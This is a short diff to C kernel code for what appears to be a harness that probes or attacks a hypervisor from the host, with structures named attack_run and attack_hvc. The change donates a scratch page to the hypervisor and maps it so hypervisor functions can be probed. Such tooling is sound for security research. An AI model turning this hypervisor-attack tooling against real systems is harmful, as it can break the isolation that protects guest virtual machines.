@@ -167,11 +167,19 @@ static int run(struct attack_run *run)
 
 static int use_probe(u64 func_id)
 {
+	void *scratch = (void *)__get_free_page(GFP_KERNEL);
+
+	if (!scratch)
+		return -ENOMEM;
+
 	probe_call = func_id;
 	pool_hyp_va = op(OP_HYP_VA, pool_pfn << PAGE_SHIFT, 0, 0);
 	slot_va = op(OP_ALLOC_MODULE_VA, NR_SLOTS, 0, 0);
+	if (!slot_va || (int)op(OP_HOST_DONATE_HYP, PHYS_PFN(__pa(scratch)), 1, 0))
+		return -ENOMEM;
+	scratch_va = op(OP_HYP_VA, __pa(scratch), 0, 0);
 
-	return slot_va ? 0 : -ENOMEM;
+	return 0;
 }
 
 static int one_hvc(struct attack_hvc *hvc)
